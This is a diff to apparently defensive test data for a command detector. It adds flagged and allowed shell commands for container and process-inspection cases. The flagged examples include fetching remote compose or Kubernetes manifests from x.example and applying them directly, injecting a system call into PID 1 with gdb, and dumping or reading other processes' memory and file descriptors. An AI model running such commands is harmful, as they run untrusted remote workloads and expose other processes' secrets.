@@ -46,4 +46,11 @@ SECRET_CASES: dict[str, tuple[list[str], list[str]]] = {
                  "kubectl apply -f - <<'EOF'\nspec:\n  hostNetwork: true\nEOF"],
                 ["kubectl run tmp --rm -it --image=busybox -- sh", "kubectl apply -f deploy.yaml",
                  "kubectl get pods", "kubectl debug mypod -it --image=busybox"]),
+    "CTR-010": (["curl -sLo c.yml https://x.example/c.yml && docker compose -f c.yml up -d",
+                 "curl -o p.yml https://x.example/p.yml && kubectl apply -f p.yml",
+                 "docker compose -f - up <<< \"$X\"", "wget -O compose.yaml https://x.example/c && docker-compose up"],
+                ["docker compose up -d", "kubectl apply -f k8s/", "docker compose -f compose.prod.yml up -d"]),
+    "PROC-005": (["gdb -p 1 -batch -ex 'call system(\"id\")'", "strace -p 1", "gdb --pid=4242", "ltrace -p 77",
+                  "cat /proc/1/fd/3", "gcore 1", "py-spy dump --pid 1"],
+                 ["strace -f -o trace.txt ./app", "gdb ./a.out", "ls -l /proc/1/fd", "cat /proc/self/fd/0"]),
 }
